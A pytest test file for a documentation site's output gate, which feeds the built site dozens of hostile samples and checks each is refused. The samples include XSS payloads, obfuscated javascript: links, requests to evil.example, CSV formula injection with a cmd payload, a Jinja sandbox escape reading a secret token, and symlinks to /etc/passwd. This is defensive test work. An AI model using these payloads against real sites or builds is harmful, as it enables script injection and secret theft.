"""The output gate (kb/gate.py): every file of the built site is verified as a browser would read it.

Each hostile case is put into a copy of the built site, as if some input check had
let it through; the gate must refuse it, naming the published file (and the source
file and line where it can be found). The build's own output passes.
"""

from __future__ import annotations

import os
import shutil
from types import SimpleNamespace
from pathlib import Path

import pytest
from conftest import ROOT, SITE_URL
from kb import engine, gate, safety, urls


@pytest.fixture(scope="module")
def config():
    old = os.environ.get("SITE_URL")
    os.environ["SITE_URL"] = SITE_URL  # as the session's site was built
    here = Path.cwd()
    os.chdir(ROOT)
    try:
        return engine.module("config").load_config(str(ROOT / "mkdocs.yml"))
    finally:
        os.chdir(here)
        if old is None:
            del os.environ["SITE_URL"]
        else:
            os.environ["SITE_URL"] = old


@pytest.fixture
def staged(site, tmp_path, config) -> gate.Site:
    """A copy of the built site, to spoil."""
    folder = tmp_path / "site"
    shutil.copytree(site, folder, symlinks=True)
    return gate.site_of(folder, ROOT, config)


def _messages(problems) -> list[str]:
    return [str(p) for p in problems]


def test_the_built_site_passes_the_gate(staged):
    assert gate.verify(staged) == []
    # the search's words for "did you mean" are among what the gate lets through
    assert sorted(p.name[:11] for p in (staged.folder / "pagefind").glob("kb-words.*.bin")) == ["kb-words.en",
                                                                                              "kb-words.fr"]


PAGE = "en/about/index.html"  # a page of the site, where the hostile HTML goes

# (name, HTML put into the page's article, what the gate must say)
HOSTILE_HTML = [
    ("inline script", "<script>window.pwned=1</script>", "an inline <script> that is not one of the theme's"),
    ("script made to look like the theme's config", '<script id="__config" type="application/json">alert(1)</script>',
     "is not JSON"),
    ("module script", '<script type="module">alert(1)</script>', "an inline <script> may have no attribute"),
    ("comment trick: refresh", '<!--><meta http-equiv="refresh" content="0;url=https://evil.example/">-->',
     '<meta http-equiv="refresh"> is not allowed'),
    ("comment trick: script file", '<!--><script src="../../assets/javascripts/x.js"></script>-->',
     'is not a script of the theme or of the site'),
    ("script of another host", '<script src="https://evil.example/x.js"></script>', "is not a script of the theme"),
    ("theme script with extra attribute", '<script src="../../assets/javascripts/kb-reader.js" onload="alert(1)">'
     "</script>", "onload=… on <script> would run code"),
    ("event handler", '<img src="x.png" onerror="alert(1)">', "the attribute onerror=… on <img> would run code"),
    ("javascript: link", '<a href="javascript:alert(1)">x</a>', 'not "javascript:"'),
    ("javascript: link with entities", '<a href="jav&#x09;ascript&colon;alert(1)">x</a>', 'not "javascript:"'),
    ("javascript: link upper case, spaces", '<a href="  JaVaScRiPt:alert(1)">x</a>', 'not "javascript:"'),
    ("protocol-relative link", '<a href="//evil.example/">x</a>', "leaves the site without saying how"),
    ("data: page", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "a data: URL"),
    ("data: image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">', "a data: URL"),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>', 'not "vbscript:"'),
    ("base", '<base href="https://evil.example/">', "a <base> element is not allowed"),
    ("iframe", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "a <iframe> element is not allowed"),
    ("object", '<object data="x.swf"></object>', "a <object> element is not allowed"),
    ("embed", '<embed src="x.swf">', "a <embed> element is not allowed"),
    ("form to another host", '<form action="https://evil.example/"><input name="q"></form>',
     "a form may only send to the site itself"),
    ("input with formaction", '<input type="image" src="x.png" formaction="https://evil.example/">',
     '<input type="image"> is not allowed'),
    ("button with formaction", '<button formaction="https://evil.example/">x</button>',
     "the attribute formaction= is not allowed on <button>"),
    ("svg script", "<svg><script>alert(1)</script></svg>", "an inline <script> that is not one of the theme's"),
    ("svg link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "<text> element is not"),
    ("svg animation", '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
     "a <animate> element is not allowed"),
    ("math mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "a <math> element is not"),
    ("style element", "<style>body{background:url(https://evil.example/)}</style>", "a <style> element is not"),
    ("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
     "a <noscript> element is not allowed"),
    ("template", "<template><script>alert(1)</script></template>", "a <template> element is not allowed"),
    ("stylesheet of another host", '<link rel="stylesheet" href="https://evil.example/x.css">',
     "a stylesheet must be a file of the site"),
    ("preload", '<link rel="preload" href="https://evil.example/x.js" as="script">', '<link rel="preload">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '<meta http-equiv="refresh"> is not allowed'),
    ("second policy", '<meta http-equiv="Content-Security-Policy" content="script-src *">',
     "a Content-Security-Policy outside <head>"),
    ("style attribute", '<table><tr><td style="background:url(https://evil.example/)">x</td></tr></table>',
     "only a column's alignment"),
    ("srcdoc on unknown", '<div srcdoc="x" autofocus onfocus="alert(1)">x</div>', "onfocus=… on <div>"),
    # loads from another host: the policy blocks them in browsers, the gate refuses them itself
    ("tracking pixel", '<img src="https://tracker.example/p.gif" alt="">', "loaded from another host"),
    ("tracking pixel in srcset", '<img src="x.png" alt="" srcset="x.png 1x, https://tracker.example/p.gif 2x">',
     "loaded from another host"),
    ("picture source of another host", '<picture><source srcset="https://tracker.example/p.gif"><img src="x.png" '
     'alt=""></picture>', "loaded from another host"),
    ("icon of another host", '<link rel="icon" href="https://tracker.example/f.ico">', "loaded from another host"),
    # browsers read a backslash as a slash in an address: /\host is //host
    ("image of another host by a backslash", '<img src="/\\tracker.example/p.gif" alt="">',
     "leaves the site without saying how"),
    ("stylesheet of another host by a backslash", '<link rel="stylesheet" href="/\\evil.example/x.css">',
     "leaves the site without saying how"),
    ("inline SVG painted from another file", '<svg><rect fill="url(https://evil.example/x.svg#p)" width="1" '
     'height="1"/></svg>', "an SVG drawing may only refer to its own parts"),
    # the theme reads its settings from the first #__config of the page: an earlier one would replace them
    ("theme's configuration clobbered", '<p id="__config">{"base":"https://evil.example/","features":[]}</p>',
     'the id "__config" is used twice'),
]


@pytest.mark.parametrize("html, said", [c[1:] for c in HOSTILE_HTML], ids=[c[0] for c in HOSTILE_HTML])
def test_hostile_html_in_a_page_is_refused(staged, html, said):
    page = staged.folder / PAGE
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("<article", html + "<article", 1), encoding="utf-8")
    if "x.js" in html:
        (staged.folder / "assets/javascripts/x.js").write_text("alert(1)", encoding="utf-8")
    messages = _messages(gate.verify(staged))
    assert any(said in m and PAGE in m for m in messages), messages


def test_a_widened_policy_is_refused(staged):
    page = staged.folder / PAGE
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'", 1), encoding="utf-8")
    messages = _messages(gate.verify(staged))
    assert any("does not begin with the site's fixed Content-Security-Policy" in m for m in messages), messages


def test_a_script_before_the_policy_is_refused(staged):
    page = staged.folder / PAGE
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace('<meta charset="utf-8">', '<meta charset="utf-8"><script>alert(1)</script>', 1))
    messages = _messages(gate.verify(staged))
    assert any("does not begin with the site's fixed Content-Security-Policy" in m for m in messages), messages


# (name, published file, its bytes, what the gate must say)
HOSTILE_FILES = [
    ("HTML page not made by the build", "rapport.html",
     b'<!doctype html><html><head><meta charset="utf-8"></head><body><script>alert(1)</script></body></html>',
     "does not begin with the site's fixed Content-Security-Policy"),
    ("script under assets", "assets/javascripts/x.js", b"alert(1)", "is not a script of the theme or of the site"),
    ("script elsewhere", "en/x.mjs", b"alert(1)", "files of this type (.mjs) are not published"),
    ("script under pagefind's subfolder", "pagefind/fragment/x.js", b"alert(1)", "is not a script of the theme"),
    ("XHTML", "x.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
     "files of this type (.xhtml) are not published"),
    ("HTM", "x.htm", b"<script>alert(1)</script>", "files of this type (.htm) are not published"),
    ("server config", ".htaccess", b"AddType text/html .png", "a hidden file"),
    ("WebAssembly", "assets/x.wasm", b"\0asm", "files of this type (.wasm) are not published"),
    ("PDF", "assets/x.pdf", b"%PDF-1.4", "files of this type (.pdf) are not published"),
    ("HTML named PNG", "assets/images/x.png", b"<script>alert(1)</script>", "is not a PNG image"),
    ("SVG with onload", "assets/images/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
     "the attribute onload=… would run code"),
    ("SVG with script", "assets/images/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     "a <script> element is not allowed in an SVG image"),
    ("SVG with foreignObject", "assets/images/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
     b"<script>alert(1)</script></body></foreignObject></svg>", "a <foreignobject> element is not allowed"),
    ("SVG with a link out", "assets/images/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
     b'<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a></svg>', "a <a> element is not allowed"),
    ("SVG with use of another file", "assets/images/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/x.svg#a"/></svg>',
     "a <use> element is not allowed"),
    ("SVG with entities", "assets/images/x.svg",
     b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
     "may not declare a DTD or entities"),
    ("SVG with stylesheet instruction", "assets/images/x.svg",
     b'<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
     "processing instructions"),
    ("SVG with animation", "assets/charts/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(1)"/></svg>',
     "a <set> element is not allowed"),
    ("CSS importing from another host", "assets/stylesheets/x.css", b"@import url(https://evil.example/x.css);",
     "@import is not allowed"),
    ("CSS loading from another host", "assets/stylesheets/x.css",
     b"body{background:url('https://evil.example/track.png')}", "loads from another site"),
    ("CSS url() written with escapes", "assets/stylesheets/x.css",
     b"body{background:\\75 rl(https://evil.example/track.png)}", "loads from another site"),
    ("CSS url() with an escaped scheme", "assets/stylesheets/x.css",
     b"body{background:url(\\68ttps://evil.example/track.png)}", "loads from another site"),
    ("CSS @import written with escapes", "assets/stylesheets/x.css", b'@\\69mport "https://evil.example/x.css";',
     "@import is not allowed"),
    ("CSS image-set of another host", "assets/stylesheets/x.css",
     b'body{background:image-set("https://evil.example/track.png" 1x)}', "loads from another site"),
    ("SVG style with image-set", "assets/images/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg"><style>svg{background:-webkit-image-set("//evil.example/t.png" 1x)}'
     b'</style><rect width="1" height="1"/></svg>', "loads from another site"),
    ("SVG painted from another file", "assets/images/x.svg",
     b'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://evil.example/p.svg#p)" width="1" '
     b'height="1"/></svg>', "an SVG drawing may only refer to its own parts"),
    # the open data is opened in spreadsheets, which run a cell beginning with = + - @ as a formula
    ("CSV formula", "assets/data/x.csv",
     b'name,count\n"=HYPERLINK(""https://evil.example/?""&A3,""Source"")",-3\n', "a formula in the spreadsheets"),
    ("CSV formula after a tab", "assets/data/x.csv", b'name\n"\t@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
     "a formula in the spreadsheets"),
    # the sitemap is XML with XHTML links in it: a browser opening it runs an XHTML script
    ("sitemap with a script", "sitemap.xml",
     b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
     b'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>https://x.example/</loc>'
     b"<xhtml:script>alert(1)</xhtml:script></url></urlset>", "a <script> element is not allowed in the sitemap"),
    ("sitemap link with a handler", "sitemap.xml",
     b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
     b'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>https://x.example/</loc>'
     b'<xhtml:link rel="alternate" hreflang="fr" href="javascript:alert(1)"/></url></urlset>', 'not "javascript:"'),
    ("compressed sitemap that is not one", "sitemap.xml.gz", b"<script>alert(1)</script>",
     "the compressed sitemap is not gzip"),
    ("Pagefind's stylesheet loading from another host", "pagefind/pagefind-ui.css",
     b"body{background:url(https://evil.example/t.png)}", "loads from another site"),
    ("source map of no theme file", "assets/javascripts/x.js.map", b"{}", "a source map is published only"),
    ("sitemap elsewhere", "en/x.xml", b"<x/>", "files of this type (.xml) are not published"),
    ("search words that are not gzip", "pagefind/kb-words.fr_0123456789.bin", b"<script>alert(1)</script>",
     "the search's words must be gzip-compressed"),
    ("binary file named like the search's words, elsewhere", "assets/kb-words.fr_0123456789.bin", b"\x1f\x8b",
     "files of this type (.bin) are not published"),
]


@pytest.mark.parametrize("rel, data, said", [c[1:] for c in HOSTILE_FILES], ids=[c[0] for c in HOSTILE_FILES])
def test_hostile_files_are_refused(staged, rel, data, said):
    path = staged.folder / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    messages = _messages(gate.verify(staged))
    assert any(said in m and rel in m for m in messages), messages


def test_a_published_name_with_a_new_line_or_a_quote_is_refused(staged):
    for name in ("a\nb.png", 'a"b.png'):
        (staged.folder / "assets" / "images" / name).write_bytes(b"\x89PNG\r\n\x1a\n")
    messages = _messages(gate.verify(staged))
    for shown in ("site/assets/images/a\\nb.png: a published name may hold only", "site/assets/images/a\"b.png: a "
                  "published name may hold only"):  # fmt: skip
        assert any(m.startswith(shown) for m in messages), messages


def test_a_changed_theme_script_is_refused(staged):
    bundle = next((staged.folder / "assets" / "javascripts").glob("bundle.*.min.js"))
    bundle.write_bytes(bundle.read_bytes() + b";alert(1)")
    messages = _messages(gate.verify(staged))
    assert any("is not a script of the theme or of the site" in m and bundle.name in m for m in messages), messages
    # and the pages that load it
    assert any(f'<script src="../../assets/javascripts/{bundle.name}">' in m for m in messages), messages


@pytest.mark.parametrize("target", ["/proc/self/environ", "../../etc/passwd", "index.html"])
def test_a_symlink_anywhere_in_the_site_is_refused(staged, target):
    link = staged.folder / "assets" / "env.txt"
    link.symlink_to(target)
    (staged.folder / "en" / "linked").symlink_to(staged.folder / "en" / "about", target_is_directory=True)
    messages = _messages(gate.verify(staged))
    assert "site/assets/env.txt: is a symbolic link: nothing is published through a link" in messages
    assert "site/en/linked: is a symbolic link: nothing is published through a link" in messages


def test_a_fifo_in_the_site_is_refused_without_reading_it(staged):
    os.mkfifo(staged.folder / "assets" / "pipe.html")
    assert "site/assets/pipe.html: is not a regular file" in _messages(gate.verify(staged))


def test_an_html_file_copied_from_content_is_refused_naming_it(staged, tmp_path):
    """`content/fr/rapport.html` is served as `/rapport.html`: never published, whatever it holds."""
    project = tmp_path / "project"
    (project / "content" / "fr").mkdir(parents=True)
    source = project / "content" / "fr" / "rapport.html"
    built = (staged.folder / "about" / "index.html").read_text(encoding="utf-8")  # even a page of the theme
    source.write_text(built, encoding="utf-8")
    (staged.folder / "rapport.html").write_text(built, encoding="utf-8")
    staged.root = project
    messages = _messages(gate.verify(staged))
    assert any(m.startswith("content/fr/rapport.html: published as rapport.html: an HTML file of content/") for m
               in messages), messages


def test_a_problem_names_the_source_file_and_line(staged, tmp_path):
    """The gate finds the page's Markdown and the line holding what it refuses."""
    project = tmp_path / "project"
    (project / "content" / "en").mkdir(parents=True)
    source = project / "content" / "en" / "about.md"
    source.write_text('---\ntitle: About\nsubtitle: "<script>window.pwned=1</script>"\n---\n\n# About\n')
    page = staged.folder / PAGE
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("<article", "<script>window.pwned=1</script><article", 1), encoding="utf-8")
    staged.root = project
    messages = _messages(gate.verify(staged))
    assert any(m.startswith("content/en/about.md:3: published as en/about/index.html: an inline <script>")
               for m in messages), messages


def test_the_policy_is_computed_from_the_templates_never_from_a_page(config):
    """The policy of a page depends on its place in the site only; the hashes are those of the theme's
    inline scripts, as the templates write them."""
    dirs = config.theme.dirs
    scripts = safety.template_scripts(tuple(map(str, dirs)))
    assert any("__md_scope" in code for code in scripts) and any("palette" in code for code in scripts)
    base = next(code for code in scripts if "__md_scope" in code).replace(safety._BASE, "../..")
    assert safety._sha256(base) in safety.script_hashes(dirs, "../..")
    assert safety._sha256(base) not in safety.script_hashes(dirs, "..")
    assert not any("{{" in code or "{%" in code for code in scripts)
    assert urls.base_url("index.html", SITE_URL) == "."
    assert urls.base_url("en/about/index.html", SITE_URL) == "../.."
    assert urls.base_url("en/404.html", "https://example.org/kb/") == "/kb/"


def _hook_config(config, folder: Path):
    """MkDocs' configuration of a build into `folder` (what the hooks read of it)."""

    return SimpleNamespace(site_dir=str(folder), site_url=config.site_url, theme=config.theme)


def test_the_preview_reports_what_the_gate_refuses_and_a_build_fails_leaving_nothing(staged, config, monkeypatch,
                                                                                     caplog):  # fmt: skip
    """`make serve` lists the gate's problems as warnings and goes on showing the site, the refused page
    as the list of its problems; `mkdocs build` fails with them and empties its folder (nothing of it may
    be published)."""
    import kb_site
    from mkdocs.exceptions import PluginError

    page = staged.folder / PAGE
    original = page.read_text(encoding="utf-8")
    page.write_text(original.replace("<article", "<base href=//x><article", 1))
    hook_config = _hook_config(config, staged.folder)
    build = SimpleNamespace(site=staged.folder, gate=staged, command="serve")  # what kb_site.gate_site reads
    with caplog.at_level("WARNING", logger="mkdocs.hooks.kb"):
        kb_site.gate_site(build, hook_config)
    said = "output gate: site/en/about/index.html: a <base> element is not allowed"
    assert any(said in r.getMessage() for r in caplog.records), caplog.text
    shown = page.read_text(encoding="utf-8")
    assert "This page is not published" in shown and "<base" not in shown
    page.write_text(original.replace("<article", "<base href=//x><article", 1))
    build.command = "build"
    with pytest.raises(PluginError, match="a <base> element is not allowed"):
        kb_site.gate_site(build, hook_config)
    assert list(staged.folder.iterdir()) == []


def test_no_file_of_the_repository_adds_to_the_allowed_scripts(config, tmp_path, monkeypatch):
    """A pull request adding an inline script to overrides/partials/javascripts/ (where the theme keeps
    its own) does not widen the policy: only the installed theme's templates count."""
    evil = tmp_path / "overrides" / "partials" / "javascripts"
    evil.mkdir(parents=True)
    (evil / "evil.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    theme = [d for d in map(str, config.theme.dirs) if "overrides" not in d]
    monkeypatch.setattr(safety, "PROJECT", tmp_path)
    safety.template_scripts.cache_clear()
    try:
        hashes = safety.script_hashes([tmp_path / "overrides", *theme], ".")
        assert safety._sha256("alert(1)") not in hashes
        assert hashes == safety.script_hashes(theme, ".") and len(hashes) > 3
    finally:
        safety.template_scripts.cache_clear()


@pytest.mark.parametrize("rel", ["assets/javascripts/extra.js", "pagefind/pagefind-extra.js"])
def test_a_script_copied_from_overrides_is_refused(staged, rel, tmp_path, monkeypatch):
    """overrides/ is a folder of the repository (MkDocs copies its files like the theme's): a script there
    is not the theme's, even byte for byte the same as the one published."""
    overrides = tmp_path / "project" / "overrides"
    (overrides / rel).parent.mkdir(parents=True)
    (overrides / rel).write_text("alert(1)", encoding="utf-8")
    monkeypatch.setattr(safety, "PROJECT", tmp_path / "project")
    staged.theme_dirs = (str(overrides), *staged.theme_dirs[1:])
    (staged.folder / rel).write_text("alert(1)", encoding="utf-8")
    page = staged.folder / PAGE
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("<article", f'<script src="../../{rel}"></script><article'), encoding="utf-8")
    messages = _messages(gate.verify(staged))
    assert any(f"{rel}: is not a script of the theme or of the site" in m for m in messages), messages
    assert any(f'<script src="../../{rel}"> is not a script of the theme' in m for m in messages), messages


def test_scripts_addressed_from_the_sites_path_are_the_sites_own(staged):
    """On a project's GitHub Pages the site lives under /<repository>/ and the theme writes some
    script addresses from there (the 404 page's): they are the site's scripts, not another's."""
    import dataclasses

    under = dataclasses.replace(staged, site_url="https://example.org/kb/")
    page = staged.folder / PAGE
    text = page.read_text(encoding="utf-8")
    ours = '<script src="/kb/assets/javascripts/kb-reader.js"></script>'
    other = '<script src="/elsewhere/assets/javascripts/kb-reader.js"></script>'
    page.write_text(text.replace("</article>", ours + other + "</article>", 1), encoding="utf-8")
    refused = [m for m in _messages(gate.verify(under)) if "is not a script of the theme" in m and PAGE in m]
    assert len(refused) == 1 and "/elsewhere/assets/javascripts/kb-reader.js" in refused[0], refused


def test_a_theme_template_cannot_print_the_build_environment(tmp_path, monkeypatch):
    """overrides/ is a folder of the repository: its templates are rendered in Jinja's sandbox, so one
    that reaches for Python's insides (the build's environment: a token) fails the build, and no file of
    the site holds the secret."""
    from conftest import build, copy_project

    monkeypatch.setenv("KB_TEST_SECRET", "ghp_notarealtokenbutsecret")
    project = copy_project(tmp_path / "project")
    main = project / "overrides" / "main.html"
    text = main.read_text(encoding="utf-8")
    assert "{% block styles %}" in text
    leak = '{{ cycler.__init__.__globals__.os.environ.get("KB_TEST_SECRET") }}'
    main.write_text(text.replace("{% block styles %}", "{% block styles %}" + leak, 1), encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert "is unsafe" in result.stdout + result.stderr
    # a plain problem at the template's line, no traceback
    assert "overrides/main.html:" in result.stdout + result.stderr and "reaches into Python's insides" in result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert "ghp_" not in result.stdout + result.stderr
    published = [p for p in (tmp_path / "site").rglob("*") if p.is_file() and b"ghp_" in p.read_bytes()]
    assert published == []
